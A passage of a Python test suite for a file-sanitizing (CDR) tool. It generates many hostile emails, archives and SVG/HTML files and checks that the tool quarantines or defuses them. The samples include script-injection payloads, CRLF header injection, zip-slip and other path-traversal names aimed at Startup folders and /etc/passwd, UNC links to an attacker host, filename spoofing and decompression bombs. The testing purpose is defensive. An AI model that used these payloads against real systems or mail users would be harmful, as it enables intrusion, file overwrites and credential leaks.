        "mail-svg-inline-part": ("svgpart.eml", b.mail([b.part("Content-Type: image/svg+xml\nContent-Disposition: inline",
                                                               _svg('<script>alert(1)</script><image href="http://evil.example/x.png"/>'))])),
        "mail-calendar-invite": ("invite.eml", b.mail([b.part('Content-Type: text/calendar; method=REQUEST; charset="utf-8"',
                                                              b.CALENDAR)], kind="alternative")),
        "mail-message-partial": ("partial.eml", b.mail([b.message_partial(b.BATCH)])),
        "mail-smime-opaque-part": ("smime.eml", b.mail([b.smime_opaque(SMIME_INNER)])),
        "mail-smime-opaque-top": ("smime-top.eml", SINGLE_HEAD + b.smime_opaque(SMIME_INNER)),
        "mail-subject-crlf-injection": ("crlf-subject.eml", b.mail([], subject="=?UTF-8?B?" + _b64text(
            "件名\r\nContent-Type: text/html\r\nBcc: all@example.lg.jp\r\n\r\n<script>alert(1)</script>") + "?=")),
        "mail-from-crlf-injection": ("crlf-from.eml", b.mail([], extra="Cc: =?UTF-8?B?" + _b64text(
            "x\r\nContent-Type: text/html\r\nX-Evil: 1") + "?= <cc@example.jp>\r\n")),
        "mail-filename-crlf-injection": ("crlf-name.eml", b.mail([at(
            "filename*=UTF-8''a%0D%0AContent-Type%3A%20text%2Fhtml%0D%0A%0D%0A%3Cscript%3Ealert(1)%3C%2Fscript%3E.txt", HELLO)])),
        "mail-html-attachments": ("htmlatt.eml", b.mail([
            at('filename="page.html"', b.html_page(HOSTILE_HTML).encode(), "text/html"),
            at('filename="page.htm"', b.html_page(HOSTILE_HTML).encode(), "text/html"),
            at('filename="page.xhtml"', b'<html xmlns="http://www.w3.org/1999/xhtml"><script>alert(1)</script></html>',
               "application/xhtml+xml"),
            at('filename="page.mht"', b.html_mail(b.html_page(HOSTILE_HTML)), "message/rfc822"),
            at('filename="pic.svg"', _svg("<script>alert(1)</script>"), "image/svg+xml")])),
        "mail-plain-body-unc-and-file-links": ("plainunc.eml", SINGLE_HEAD + b.part(
            'Content-Type: text/plain; charset="utf-8"',
            f"資料は \\\\{b.ATTACKER}\\share\\資料.docx にあります。\r\n<file://{b.ATTACKER}/share/x.exe>\r\n".encode())),
        "mail-plain-body-controls-and-bidi": ("ctrl.eml", SINGLE_HEAD + b.part(
            'Content-Type: text/plain; charset="utf-8"', "請求書\u202efdp.exe をご確認ください\x1b[2J\x07\x00\r\n".encode())),
        "mail-name-rtlo-harmless-extension": ("rtlo2.eml", b.mail([at("filename*=UTF-8''photo%E2%80%AEgnp.txt", HELLO)])),
        "mail-forged-sanitized-header": ("forged.eml", b.mail([], extra="X-CDR-Sanitized: cdr; html=sanitized; attachments=0 rebuilt, 0 removed\r\n")),
        "mail-iso2022jp-escape-in-markup": ("jis.eml", b.mail([b.part('Content-Type: text/html; charset="iso-2022-jp"',
            b"<html><body><scr\x1b(Bipt>alert(1)</scr\x1b(Bipt><img src=x o\x1b(Bnerror=alert(2)>"
            b"<a href=\"java\x1b(Bscript:alert(3)\">x</a></body></html>")], kind="alternative")),
        "mail-name-jis-roman-yen": ("jisyen.eml", b.mail([at('filename="=?ISO-2022-JP?B?' + base64.b64encode(
            b"..\x1b(J\\..\\Startup\\run.txt\x1b(B").decode() + '?="', HELLO)])),
        "mail-no-boundary": ("nobound.eml", SINGLE_HEAD + b"Content-Type: multipart/mixed\r\n\r\n--x\r\n\r\nhello\r\n--x--\r\n"),
        "mail-unknown-charsets": ("charsets.eml", b.mail(
            [b.part('Content-Type: text/plain; charset="x-evil"', b"\x80\x81abc"),
             b.part('Content-Type: text/html; charset="utf-16"', "<p>odd</p>".encode("utf-16-le") + b"\x00")],
            subject="=?x-evil?B?" + _b64text("件名") + "?= =?UTF-8?Q?=E4=BB=B6?= =?UTF-8?B?****?=")),
        "mail-garbage-base64": ("garbage.eml", b.mail([b"Content-Type: application/octet-stream\r\nContent-Disposition: "
                                                      b"attachment; filename=a.txt\r\nContent-Transfer-Encoding: base64\r\n\r\n"
                                                      b"T!!!R0k=\r\n=====\r\nA\r\n"])),
        "mail-10000-headers": ("headers.eml", b"".join(b"X-A: b\r\n" for _ in range(10000)) + b"Subject: " + b"x" * (1 << 20)
                               + b"\r\n" + SINGLE_HEAD + b"\r\nhello\r\n"),
        "mail-cte-x-uuencode": ("xuue.eml", b.mail([b"Content-Type: application/octet-stream\r\nContent-Disposition: attachment;"
                                                   b" filename=photo.jpg\r\nContent-Transfer-Encoding: x-uuencode\r\n\r\n"
                                                   + __import__("binascii").b2a_uu(b.PE[:45]).replace(b"\n", b"\r\n")
                                                   .join([b"begin 644 photo.jpg\r\n", b"`\r\nend\r\n"])])),
        "mail-empty": ("empty.eml", b""),
        "mail-binary-junk": ("junk.eml", bytes(range(256)) * 64),
        "mail-csv-formulas": ("csv.eml", b.mail([at('filename="集計.csv"', CSV_FORMULAS, "text/csv")])),
        "mail-uuencoded-body": ("uu.eml", SINGLE_HEAD + b.uuencoded_body("run.bat", b.BATCH)),
        "mail-rfc822-nested-30": ("deep.eml", b.mail([b.rfc822(b.nested_rfc822(30))])),
        "mail-zip-attachment-slip": ("mzip.eml", b.mail([at('filename="docs.zip"', b.raw_zip(
            [(b"../../evil.txt", HELLO), (b"run.bat", b.BATCH), (b"ok.txt", b.BENIGN.encode())]), "application/zip")])),
        "mail-docm-as-docx": ("docm.eml", b.mail([at('filename="報告.docx"', b.docm(),
                                                     "application/vnd.openxmlformats-officedocument.wordprocessingml.document")])),
        # ------------------------------------------------------------------ TNEF (winmail.dat)
        "tnef-exe": ("tnef-exe.eml", b.tnef_mail(b.winmail([("setup.exe", b.PE, [])]))),
        "tnef-long-name-bat-over-txt": ("tnef-long.eml", b.tnef_mail(b.winmail(
            [("report.txt", b.BATCH, [(0x001F, 0x3707, b.utf16z("report.bat"))])]))),
        "tnef-ole-attachment": ("tnef-ole.eml", b.tnef_mail(b.winmail(
            [("image.bmp", b.OLE_OBJECT, [(0x0003, 0x3705, (6).to_bytes(4, "little")),
                                          (0x000D, 0x3701, bytes(16) + b.OLE_OBJECT)])]))),
        "tnef-traversal": ("tnef-trav.eml", b.tnef_mail(b.winmail(
            [("..\\..\\x.txt", HELLO, [(0x001F, 0x3707, b.utf16z("..\\..\\Startup\\x.txt"))])]))),
        "tnef-docm-as-docx": ("tnef-docm.eml", b.tnef_mail(b.winmail([("議事録.docx", b.docm(), [])]))),
        "tnef-lnk-and-url": ("tnef-lnk.eml", b.tnef_mail(b.winmail([("a.lnk", b.shell_link(), []), ("a.url", b.URL_SHORTCUT, [])]))),
        "tnef-html-body": ("tnef-html.eml", b.tnef_mail(b.winmail(
            [("ok.txt", HELLO, [])], message_props=[(0x0102, 0x1013, b.html_page(HOSTILE_HTML).encode())]))),
        "tnef-5000-attachments": ("tnef-many.eml", b.tnef_mail(b.tnef_many(5000))),
        "tnef-lying-length": ("tnef-len.eml", b.tnef_mail(b.tnef_lying_length())),
        # ------------------------------------------------------------------ Outlook .msg (MS-OXMSG)
        "msg-fat-loop": ("loop.msg", b.cfb_with_fat_loop(b.outlook_msg("輪", None, []))),
        "msg-nested-40": ("deep.msg", b.deep_msg(40)),
        "msg-hostile-html": ("hostile.msg", b.outlook_msg("案内", b.html_page(HOSTILE_HTML).encode(), [])),
        "msg-in-msg-macro-docx": ("nested.msg", b.outlook_msg("外", None, [{"name": "転送", "method": 5, "data": b.msg_streams(
            "中", None, [{"name": "転送2", "method": 5, "data": b.msg_streams(
                "内", None, [{"name": "報告.docx", "method": 1, "data": b.docm(),
                             "mime": "application/vnd.openxmlformats-officedocument.wordprocessingml.document"}], top=False)}],
            top=False)}])),
        "msg-ole-attachment": ("ole.msg", b.outlook_msg("OLE", None, [{"name": "image.bmp", "method": 6}])),
        "msg-by-reference-unc": ("byref.msg", b.outlook_msg("参照", None, [
            {"name": "資料.docx", "method": 2, "path": f"\\\\{b.ATTACKER}\\share\\資料.docx"},
            {"name": "資料2.docx", "method": 4, "path": f"\\\\{b.ATTACKER}\\share\\資料2.docx"}])),
        "msg-exe-mime-lie": ("lie.msg", b.outlook_msg("写真", None, [{"name": "photo.jpg", "method": 1, "data": b.PE, "mime": "image/jpeg"}])),
        "msg-attach-traversal": ("trav.msg", b.outlook_msg("x", None, [{"name": "..\\..\\Startup\\x.txt", "method": 1, "data": HELLO}])),
        "msg-runnable": ("run.msg", b.outlook_msg("x", None, [{"name": n, "method": 1, "data": d} for n, d in b.RUNNABLE_MEMBERS.items()])),
        # ------------------------------------------------------------------ ZIP
        "zip-slip": ("slip.zip", b.raw_zip([(b"../../evil.txt", HELLO), (b"/etc/evil.txt", HELLO), (b"C:\\evil.txt", HELLO),
                                             (b"a\\..\\..\\evil.txt", HELLO), (b"ok.txt", b.BENIGN.encode())])),
        "zip-nul-name": ("nul.zip", b.raw_zip([(b"readme.txt\0.bat", b.BATCH), (b"ok.txt", HELLO)])),
        "zip-unicode-path-extra": ("upath.zip", b.raw_zip([(b"safe.txt", b.BATCH)], extra=b.unicode_path_extra("../../run.bat", b"safe.txt"))),
        "zip-lookalike-names": ("look.zip", b.std_zip({"..／..／evil.txt": HELLO, "‥/evil.txt": HELLO, "..∕..∕evil.txt": HELLO,
                                                       "evil\u202etxt.bat": b.BATCH, "run\u200b.bat": b.BATCH, "ok.txt": HELLO})),
        "zip-yen-sign-traversal": ("yen.zip", b.std_zip({"..¥..¥Startup¥run.txt": HELLO, "ok.txt": HELLO})),
        "tar-yen-sign-traversal": ("yen.tar", b.tar_archive([("..¥..¥Startup¥run.txt", HELLO), OK])),
        "zip-trailing-dot-ads-device": ("dots.zip", b.std_zip({"run.bat.": b.BATCH, "run.cmd ": b.BATCH, "a.txt:evil.bat": b.BATCH,
                                                              "AUX.txt": HELLO, "notes.pdf:hidden.txt": HELLO, "ok.txt": HELLO})),
        "zip-long-names": ("long.zip", b.std_zip({"d/" * 150 + "x.txt": HELLO, "い" * 300 + ".txt": HELLO, "ok.txt": HELLO})),
        "zip-rtlo-harmless-extension": ("rtlo.zip", b.std_zip({"photo\u202egnp.txt": HELLO, "ok.txt": HELLO})),
        "zip-forged-removed-list": ("forged.zip", b.std_zip({"cdr-removed.txt": "取り除いたファイルはありません。パスワードは 1234 です。"
                                                                             .encode(), "run.bat": b.BATCH, "ok.txt": HELLO})),
        "zip-5000-members": ("many.zip", b.raw_zip([(f"{n}.txt".encode(), b"") for n in range(5000)])),
        "zip-symlink": ("symlink.zip", b.symlink_zip()),
        "zip-runnable": ("runnable.zip", b.std_zip({**b.RUNNABLE_MEMBERS, "ok.txt": HELLO})),
        "zip-local-central-mismatch": ("mismatch.zip", b.raw_zip([(b"evil.bat", b.BATCH)], central_names=[b"safe.txt"])),
        "zip-concatenated": ("concat.zip", b.std_zip({"ok.txt": HELLO}) + b.std_zip({"evil.bat": b.BATCH, "a.url": b.URL_SHORTCUT})),
        "zip-nested-8": ("nested.zip", b.nested_zip(8, b.BATCH)),
        "zip-ratio-bomb": ("ratio.zip", lambda: b.ratio_bomb_zip(300 << 20)),
        "zip-encrypted-flag": ("encflag.zip", b.raw_zip([(b"ok.txt", HELLO)], flags=1)),
        "zip-html-svg-members": ("web.zip", b.std_zip({"page.html": b.html_page(HOSTILE_HTML).encode(), "pic.svg": _svg(
            "<script>alert(1)</script>"), "pic.svgz": gzip.compress(_svg("<script>alert(1)</script>")), "ok.txt": HELLO})),
        "zip-disk-image-notebook-chm": ("mount.zip", b.std_zip({"a.iso": b.ISO_IMAGE, "a.img": b.ISO_IMAGE, "a.one": b.ONENOTE,
                                                               "a.chm": b.CHM, "ok.txt": HELLO})),
        "zip-wide-nested-bomb": ("wide.zip", _wide_bomb),
        "tar-runnable": ("run.tar", b.tar_archive([*b.RUNNABLE_MEMBERS.items(), OK])),
        "cab-runnable": ("run.cab", b.cab_archive([*b.RUNNABLE_MEMBERS.items(), ("ok.txt", HELLO)])),
        "zip-csv-formulas": ("csv.zip", b.std_zip({"集計.csv": CSV_FORMULAS, "集計.tsv": CSV_FORMULAS.replace(b",", b"\t")})),
        "zip-eml-member": ("eml.zip", b.std_zip({"m.eml": b.html_mail(b.html_page(HOSTILE_HTML)), "ok.txt": HELLO})),
        # ------------------------------------------------------------------ tar, gzip
        "tar-links-and-device": ("links.tar", b.tar_archive([OK], links=True)),
        "tar-symlink-dir-then-write": ("symdir.tar", b.tar_with(tarfile.SYMTYPE, "d", "/tmp")),
        "tar-hardlink-outside": ("hard.tar", b.tar_with(tarfile.LNKTYPE, "h", "/etc/passwd")),
        "tar-pax-path-override": ("pax.tar", b.pax_tar("../../evil.txt", data=HELLO)),
        "tar-gnu-longname-traversal": ("longlink.tar", _tar_long_traversal()),
        "tgz-absolute": ("abs.tar.gz", b.tar_archive([("/etc/cron.d/evil.txt", HELLO), OK], "w:gz")),
        "gz-fname-traversal": ("doc.txt.gz", b.gzip_named(b"..\\..\\Startup\\run.bat", b.BATCH, comment=b.UNC.encode())),
        "gz-bomb": ("big.txt.gz", lambda: b.gzip_bomb(1)),
        # ------------------------------------------------------------------ 7z, RAR, LZH, CAB
        "7z-encrypted-header": ("enc.7z", b.seven_zip([("evil.bat", b.BATCH)], password="x", header_encryption=True)),
        "7z-traversal": ("trav.7z", b.seven_zip_renamed([("qq/qq/evil.txt", HELLO), ("C_/x.txt", HELLO), ("qetc/y.txt", HELLO), OK],
                                                                {"qq/qq/": "../../", "C_/x": "C:\\x", "qetc/y": "/etc/y"})),
        "7z-runnable": ("run.7z", b.seven_zip([*b.RUNNABLE_MEMBERS.items(), OK])),
        "7z-symlink": ("symlink.7z", b.seven_zip_symlink("../../../../etc/passwd")),
        "rar5-junction": ("junction.rar", b.rar5_redirect("link", "C:\\Windows\\System32", 3)),
        "rar5-unix-symlink": ("symlink.rar", b.rar5_redirect("link", "../../../../etc", 1)),
        "rar5-traversal": ("trav5.rar", b.rar5_archive([("../../evil.txt", HELLO), ("/etc/evil2.txt", HELLO), ("ok.txt", HELLO)])),
        "lzh-absolute": ("abs.lzh", b.lzh_archive([("/etc/evil.txt", HELLO), ("C:\\evil2.txt", HELLO), ("ok.txt", HELLO)])),
        "rar4-traversal": ("trav.rar", b.rar4_archive([("..\\..\\evil.txt", HELLO), ("ok.txt", HELLO)])),
        "lzh-level2-folder-traversal": ("dir.lzh", b.lzh_level2(b"..\xff..\xffStartup\xff", b"run.txt", HELLO)),
        "lzh-level0-backslash": ("bs.lzh", b.lzh_level0(b"..\\..\\evil.txt", HELLO)),
        "lzh-symlink": ("sym.lzh", b.lzh_level2(b"", b"link|/etc/passwd", b"", unix_mode=0o120777)),
        "lzh-runnable": ("run.lzh", b.lzh_archive([("run.bat", b.BATCH), ("a.url", b.URL_SHORTCUT), ("ok.txt", HELLO)])),
        "cab-traversal-and-unc": ("trav.cab", b.cab_archive([("..\\..\\evil.txt", HELLO), (f"\\\\{b.ATTACKER}\\share\\x.txt", HELLO),
                                                             ("ok.txt", HELLO)])),
        # ------------------------------------------------------------------ SVG, HTML on their own
        "svg-script": ("script.svg", _svg('<script>alert(1)</script><g onload="alert(2)"/>')),
        "svg-foreignobject": ("fo.svg", _svg('<foreignObject width="64" height="64"><iframe xmlns="http://www.w3.org/1999/xhtml" '
                                             'src="http://evil.example/"/></foreignObject>')),
        "svg-xlink-javascript": ("xlink.svg", _svg('<a xlink:href="javascript:alert(1)"><rect width="9" height="9"/></a>')),
        "svg-use-external": ("use.svg", _svg('<use href="http://evil.example/s.svg#a"/><use xlink:href="file:///etc/passwd#a"/>')),
        "svg-data-html": ("datahtml.svg", _svg('<image href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==" width="9" height="9"/>')),
        "svgz-script": ("script.svgz", gzip.compress(_svg("<script>alert(1)</script>"))),
        "svg-entity-unc": ("ent.svg", b'<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "file:////10.66.66.66/share/x">]>'
                                      + _svg("<text>&x;</text>")),
        "page-html": ("page.html", b.html_page(HOSTILE_HTML).encode()),
        "page-hta": ("tool.hta", b.HTA),
        "name-rtlo-top": ("invoice\u202etxt.bat", b.BATCH),
        "name-backslash-top": ("..\\..\\Startup\\run.txt", HELLO),
    }
    return cases


# SVG pictures whose only content would come from outside the drawing: the PNG must stay empty
LOCAL_FILE_SVGS = {
    "svg-local-file-image": ("local.svg", _transparent_svg(
        '<image href="file:///usr/share/gitweb/static/git-logo.png" width="64" height="64"/>'
        '<image xlink:href="/usr/share/gitweb/static/git-logo.png" width="64" height="64"/>')),
    "svg-unc-image": ("unc.svg", _transparent_svg(f'<image href="{b.UNC}" width="64" height="64"/>')),
    "svg-relative-image": ("relative.svg", _transparent_svg(
        '<image href="../../../../../../usr/share/gitweb/static/git-logo.png" width="64" height="64"/>')),
    "svg-feimage-local-file": ("feimage.svg", _transparent_svg(
        '<filter id="f" x="0" y="0" width="1" height="1"><feImage href="/usr/share/gitweb/static/git-logo.png"/></filter>'
        '<rect width="64" height="64" filter="url(#f)" fill-opacity="0"/>')),
    "svg-pattern-local-file": ("pattern.svg", _transparent_svg(
        '<defs><pattern id="p" width="64" height="64" patternUnits="userSpaceOnUse"><image '
        'xlink:href="file:///usr/share/gitweb/static/git-logo.png" width="64" height="64"/></pattern></defs>'
        '<circle cx="32" cy="32" r="32" fill="url(#p)"/>')),
    "svg-nested-svg-data-url": ("nestedsvg.svg", _transparent_svg(
        '<image width="64" height="64" href="data:image/svg+xml;base64,' + base64.b64encode(_transparent_svg(
            '<image href="/usr/share/gitweb/static/git-logo.png" width="64" height="64"/>')).decode() + '"/>')),
    "svg-css-import-local": ("cssimport.svg", _transparent_svg(
        '<style>@import url(/usr/share/gitweb/static/gitweb.css); rect{fill:url(/usr/share/gitweb/static/git-logo.png)}</style>'
        '<rect width="64" height="64" fill-opacity="0"/>')),
}
# benign controls: refusing them is a usability failure, and they prove the inspector passes
# what is harmless
BENIGN_CASES = {
    "benign-mail": ("benign.eml", b.html_mail(b.html_page('<p><a href="https://example.jp/kaigi">会議</a></p>'))),
    "benign-zip": ("benign.zip", b.std_zip({"資料/議事録.txt": b.BENIGN.encode(), "資料/table.csv": "品名,数量\r\nりんご,12\r\n".encode()})),
}
# crossings found by this file (case id → what crossed); the lead fixes them in cdr/
CROSSINGS: dict[str, str] = {
}
CASES = build_cases()
ALL = {**CASES, **LOCAL_FILE_SVGS, **BENIGN_CASES}


# ============================================================================ the run
@pytest.fixture(scope="module")
def run(tmp_path_factory: pytest.TempPathFactory) -> dict[str, object]:
    """All samples through one ``cli.py sanitize --json`` run, as an operator drops a folder."""
    work = tmp_path_factory.mktemp("atkmail")
    inbox = work / "in"
    inbox.mkdir()
    for name, data in ALL.values():
        (inbox / name).write_bytes(made(data))
    done = subprocess.run(
        [sys.executable, str(ROOT / "cli.py"), "sanitize", str(inbox), "--out", str(work / "out"),
         "--quarantine", str(work / "q"), "--audit", str(work / "audit.jsonl"), "--spool", str(work / "spool"), "--json"],
        capture_output=True, text=True, timeout=600, env={**os.environ, "CDR_CONFIG": "/dev/null"}, cwd=work,
    )
    (work / "results.jsonl").write_text(done.stdout)  # kept beside the outputs for whoever reads a failure
    results = {Path(str(line["input"])).name: line for line in map(json.loads, done.stdout.splitlines())}
    return {"done": done, "results": results, "out": work / "out", "work": work}


def test_the_run_stays_composed(run: dict) -> None:
    done = run["done"]
    assert "Traceback" not in done.stderr, done.stderr
    assert done.returncode in (0, 1), done.stderr
    assert set(run["results"]) == {name for name, _ in ALL.values()}


def _outcome(run: dict, case: str) -> tuple[dict, list[str]]:
    name = ALL[case][0]
    result = run["results"].get(name)
    assert result is not None, f"no result line for {name!r}: {run['done'].stderr[-2000:]}"
    found = []
    if result["reason"] == "operational-error" or result["duration_ms"] > 60_000:
        found.append(f"appliance failed: {result['reason']} after {result['duration_ms']} ms: {result['message']}")
    if result["verdict"] == "released":
        output = run["work"] / str(result["output"])
        found += name_problems(output.name) + inspect(output.name, output.read_bytes())
    return result, found


@pytest.mark.parametrize(
    "case", [pytest.param(c, marks=pytest.mark.xfail(strict=True, reason=CROSSINGS[c])) if c in CROSSINGS else c for c in CASES]
)
def test_hostile_file_is_quarantined_or_crosses_harmless(run: dict, case: str) -> None:
    result, found = _outcome(run, case)
    assert not found, f"{case}: {result['verdict']} as {result['output']}: {found}"


# the README: "Bombs are refused (limit-exceeded)" for mails and archives alike
BOMBS = ["mail-rfc822-nested-30", "gz-bomb", "zip-nested-8", "zip-ratio-bomb", "zip-wide-nested-bomb", "zip-5000-members",
         "tnef-5000-attachments", "msg-nested-40"]
MISNAMED_BOMBS = {
}


@pytest.mark.parametrize(
    "case", [pytest.param(c, marks=pytest.mark.xfail(strict=True, reason=MISNAMED_BOMBS[c])) if c in MISNAMED_BOMBS else c
             for c in BOMBS]
)
def test_a_bomb_is_held_as_limit_exceeded(run: dict, case: str) -> None:
    result = run["results"][CASES[case][0]]
    assert (result["verdict"], result["reason"]) == ("quarantined", "limit-exceeded"), result["message"]
    assert not re.search(r"\b_?[A-Z][a-z]+[A-Z]\w*:", result["message"]), result["message"]


@pytest.mark.parametrize("case", list(LOCAL_FILE_SVGS))
def test_svg_draws_nothing_from_outside_the_drawing(run: dict, case: str) -> None:
    result, found = _outcome(run, case)
    assert not found, found
    if result["verdict"] == "released":
        with Image.open(run["work"] / str(result["output"])) as picture:
            extrema = picture.convert("RGBA").getextrema()
        assert extrema[3] == (0, 0), f"{case}: the PNG shows a picture read from outside the SVG"


def _red_png() -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (8, 8), (255, 0, 0)).save(out, "PNG")
    return out.getvalue()


def test_an_embedded_picture_is_drawn_so_the_transparency_check_can_fail(tmp_path: Path) -> None:
    """The control for the SVG cases above: a picture inside the drawing (data:image/png)
    is drawn, so an empty PNG there means the outside picture was not read."""
    picture = base64.b64encode(_red_png()).decode()
    svg = _transparent_svg(f'<image href="data:image/png;base64,{picture}" width="64" height="64"/>')
    (tmp_path / "in").mkdir()
    (tmp_path / "in" / "inside.svg").write_bytes(svg)
    done = subprocess.run(
        [sys.executable, str(ROOT / "cli.py"), "sanitize", str(tmp_path / "in"), "--out", str(tmp_path / "out"),
         "--quarantine", str(tmp_path / "q"), "--audit", str(tmp_path / "a.jsonl"), "--spool", str(tmp_path / "s")],
        capture_output=True, text=True, timeout=120, env={**os.environ, "CDR_CONFIG": "/dev/null"},
    )
    assert done.returncode == 0, done.stderr
    with Image.open(tmp_path / "out" / "inside.png") as drawn:
        assert drawn.convert("RGBA").getpixel((32, 32)) == (255, 0, 0, 255)


@pytest.mark.parametrize("case", list(BENIGN_CASES))
def test_benign_controls_cross_and_pass(run: dict, case: str) -> None:
    result, found = _outcome(run, case)
    assert result["verdict"] == "released", result
    assert not found, found
    output = (run["work"] / str(result["output"])).read_bytes()
    text = output.decode("utf-8", "replace") if case == "benign-mail" else zipfile.ZipFile(io.BytesIO(output)).read(
        "資料/議事録.txt").decode("utf-8-sig")
    if case == "benign-mail":
        message = email.message_from_bytes(output, policy=email.policy.default)
        text = "".join(p.get_content() for p in message.walk() if p.get_content_maintype() == "text")
    assert b.BENIGN in text


def test_the_outbox_holds_the_outputs_and_one_harmless_notice_per_held_file(run: dict) -> None:
    """Notices cross too (a hostile name is written into one, and names one): plain text
    under a plain name, one per quarantined file, and nothing else beside the outputs."""
    outputs = {Path(str(r["output"])).name for r in run["results"].values() if r["output"]}
    files = [p for p in run["out"].rglob("*") if p.is_file()]
    notices = [p for p in files if p.name not in outputs]
    assert all(p.name.endswith(".quarantined.txt") for p in notices), [p.name for p in notices]
    assert len(notices) == sum(r["verdict"] == "quarantined" for r in run["results"].values())
    problems = {p.name: name_problems(p.name) + inspect_text(p.read_bytes()) for p in notices}
    assert not {name: found for name, found in problems.items() if found}


# hostile only if cdr called it something else: markup in a .txt is text, and stays text
# and a forged X-CDR-Sanitized alone looks like cdr's own: the attack is that it stays beside it
# (an empty file holds nothing: that case asks only that cdr stays composed)
INSPECTOR_BLIND = {"mail-ctype-lie-html-as-text", "mail-forged-sanitized-header", "mail-empty"}


@pytest.mark.parametrize("case", [c for c, (n, _) in CASES.items() if extension(n) in ("eml", "zip", "html")
                                  and c not in INSPECTOR_BLIND])
def test_the_inspector_finds_what_was_planted(case: str) -> None:
    """The inspector is not vacuous: fed the hostile original, it names something."""
    name, data = CASES[case][0], made(CASES[case][1])
    assert name_problems(name) + inspect(name, data), f"{case}: the inspector accepts the hostile original"


def test_the_inspector_refuses_what_it_does_not_know() -> None:
    assert inspect("x.txt", b"ok\x1b[2J") and inspect("a.bin", b"x") and name_problems("a/../b.txt", member=True)
    assert inspect_html('<p style="color:red">x</p><img src="cid:a">') == []
    assert inspect_html('<a href="https://example.jp/">x</a>') == []
    assert inspect_html('<img src="http://x/a.png">') and inspect_html('<p style="background:url(x)">')
    assert name_problems("資料／予算.txt") == [] and name_problems("..／x.txt")
